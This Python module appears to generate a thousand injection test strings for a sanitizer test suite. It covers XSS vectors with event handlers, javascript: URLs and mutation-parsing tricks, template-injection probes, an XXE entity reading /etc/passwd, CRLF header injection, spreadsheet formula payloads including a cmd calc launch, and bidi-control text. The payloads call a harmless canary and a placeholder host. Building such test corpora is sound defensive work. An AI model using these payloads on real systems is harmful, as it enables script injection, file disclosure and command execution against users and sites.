# SPDX-License-Identifier: Apache-2.0
# ruff: noqa: E501
"""A thousand texts, each of a known kind, written here: where one is not shown as text, `canary` runs or an element appears."""

from collections.abc import Iterator
from itertools import chain, islice, product, zip_longest

COUNT = 1000
RUN = "canary(1)"
QUOTED = f'"{RUN}"'

TAGS = (
    "img",
    "svg",
    "video",
    "audio",
    "iframe",
    "object",
    "embed",
    "input",
    "details",
    "body",
    "link",
    "marquee",
)
EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "onbeforetoggle",
    "onpageshow",
)
FORMS = (
    "<{tag} src=x {event}={run}>",
    "<{tag}/{event}='{run}' src=//elsewhere.invalid/x autofocus tabindex=0 open>",
    '<{tag}\n{event} = "{run}" href=x data=x>',
)
BREAKOUTS = (
    "", '">', "'>", "`>", "-->", "]]>", "*/", "\\'>", '\\">', "</title>", "</textarea>", "</script>", "</style>", "</noscript>",
    "</template>", "</select>", "</svg>", "</math>", "</time>", "</bdi></h1>", "</a>", "</table>", "</iframe>", "<!--", "<![CDATA[",
)  # fmt: skip
CORES = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script src=//elsewhere.invalid/{RUN}></script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>here</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x'/></svg>",
    f"<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></iframe>",
    f"<form action=javascript:{RUN}><button>Go on</button></form>",
    f"<math href=javascript:{RUN}>here</math>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href=//elsewhere.invalid/>",
    "<link rel=stylesheet href=//elsewhere.invalid/x.css>",
    "<style>@import '//elsewhere.invalid/x.css'; * { color: red }</style>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<x contenteditable autofocus onfocus={RUN}>here</x>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
)
ATTRIBUTES = tuple(
    f"{quote}{gap}{event}={quote}{RUN}{quote}{gap}x={quote}"
    for quote, gap, event in product(
        ('"', "'", "`", "&quot;", "&#39;", "\u2033"), (" ", "/", "\n"), EVENTS[2:5]
    )
)
ADDRESSES = tuple(
    before + scheme
    for before, scheme in product(
        ("", " ", "\u00a0", "x:", "//elsewhere.invalid/#"),
        (
            f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"javascript&colon;{RUN}",
            f"&#106;avascript:{RUN}", f"%6aavascript:{RUN}", f"javascript://%0a{RUN}", f"data:text/html,<script>{RUN}</script>",
            "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=", f"vbscript:{RUN}", f"view-source:javascript:{RUN}",
            f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>", f"blob:{RUN}", "file:///etc/passwd",
        ),
    )
)  # fmt: skip
TEMPLATES = (
    "{{ 7|add:7 }}", "{% load static %}", "{% include 'ui/base.html' %}", "{{ settings.SECRET_KEY }}", "{# x #}", "{{7*7}}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "[[7*7]]", "{{constructor.constructor('canary(1)')()}}", "${canary(1)}", "`${canary(1)}`", "%(lang)s",
    "%s%s%n", "{0.__class__}", "{self.__init__.__globals__}", "{}", "{text}", "\\u003cscript\\u003ecanary(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=canary(1)\\x3e", "<% canary(1) %>", "<?php canary(1) ?>", "<!--#exec cmd=x -->", "$(canary)", "|canary",
)  # fmt: skip
DATA = (
    f"</script><script>{RUN}</script>", f"\"}}</script><script>{RUN}</script>", f"<!--<script>{RUN}", f"\"}};{RUN};//", f"';{RUN};'",
    f"\u2028{RUN}\u2029", f"]]><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>", f"\\\"-{RUN}-\\\"", "]]>]]&gt;<![CDATA[",
    f"<script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    f"<?xml-stylesheet href='javascript:{RUN}'?>", f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>", "\\", "\\\\\"", "'", '"',
    f"<h:img xmlns:h='http://www.w3.org/1999/xhtml' src='x' onerror='{RUN}'/>", "@misc{x, title = {y}}", "}, note = {x", "TY  - JOUR\nER  - ",
    "\r\nSet-Cookie: a=b", "%0d%0aSet-Cookie:%20a=b", "\r\n\r\n<script>canary(1)</script>", "\n.\n", "--\n", "__proto__", "constructor",
)  # fmt: skip
CELLS = tuple(
    start + rest
    for start, rest in product(
        ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", '"=', "';="),
        ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("//elsewhere.invalid/?"&A1;"here")', "IMPORTXML(A1;B1)"),
    )
)
PARSED_TWICE = tuple(
    form.format(run=RUN, tag=tag)
    for form, tag in product(
        (
            "<noscript><p title='</noscript><img src=x onerror={run}>'>",
            "<svg></p><{tag}><a id='</{tag}><img src=x onerror={run}>'>",
            "<math><mtext><table><mglyph><{tag}><!--</{tag}><img title='--&gt;&lt;img src=x onerror={run}&gt;'>",
            "<form><math><mtext></form><form><mglyph><{tag}></math><img src=x onerror={run}>",
            "<{tag}><img title='</{tag}><img src=x onerror={run}>'></{tag}>",
            "<svg><{tag}>&lt;/{tag}&gt;&lt;img src=x onerror={run}&gt;",
            "&lt;{tag}&gt;&lt;img src=x onerror={run}&gt;",
            "&amp;lt;img src=x onerror={run} title={tag}&amp;gt;",
        ),
        ("style", "title", "xmp", "textarea", "noframes", "desc", "foreignObject"),
    )
)
ENCODED = (
    f"%3Cscript%3E{RUN}%3C/script%3E", f"%253Cscript%253E{RUN}%253C/script%253E", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"＜script＞{RUN}＜/script＞", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"&#x3c;img src=x onerror={RUN}&#x3e;", f"‹img src=x onerror={RUN}›",
    f"<ſcript>{RUN}</ſcript>", f"<ımg src=x onerror={RUN}>", f"<img src=x onerror={RUN}\u200b>", f"<\u00adscript>{RUN}</\u00adscript>",
    f"[here](javascript:{RUN})", f"![x](x{QUOTED})", f"<javascript:{RUN}>", f"[x]: javascript:{RUN}", f"**<b onclick={RUN}>x</b>**",
)  # fmt: skip
EVERYWHERE = tuple(
    f"{start}javascript:/*--></title></style></textarea></script></noscript>{middle}<svg/onload='+/\"/+/{event}=1/+/[*/[]/+{RUN}//'>"
    for start, middle, event in product(("", "'", '"', "*/"), ("", "</xmp>", "]]>"), EVENTS[2:5])
)
TURNED = (
    *(f"Town {sign}nwot{end} of 3" for sign, end in zip("\u202a\u202b\u202d\u202e\u2066\u2067\u2068", "\u202c" * 4 + "\u2069" * 3, strict=True)),
    *(f"Town{sign} <b>x" for sign in "\u0000\u0001\u0008\u000b\u000c\u001b\u007f\u0085\u2060\ufeff\ue000\U000e0041"),
)  # fmt: skip
"""What turns or hides the words after it: the only ones that are refused."""
KEPT_MARKS = tuple(f"{mark}حلب{mark} (Town) 3–5" for mark in "\u200c\u200d\u200e\u200f\u061c\u00ad\u200b")


def events() -> Iterator[str]:
    for form, tag, event in product(FORMS, TAGS, EVENTS):
        yield form.format(tag=tag, event=event, run=RUN)


def vectors() -> list[str]:
    """Return as many as COUNT, each once; every beginning of the list holds all kinds."""
    whole = (
        ATTRIBUTES,
        ADDRESSES,
        TEMPLATES,
        DATA,
        CELLS,
        PARSED_TWICE,
        ENCODED,
        EVERYWHERE,
        TURNED,
        KEPT_MARKS,
    )
    broken_out = (before + core for before, core in product(BREAKOUTS, CORES))
    mixed = chain.from_iterable(zip_longest(*whole, events(), broken_out))
    return list(islice(dict.fromkeys(each for each in mixed if each), COUNT))
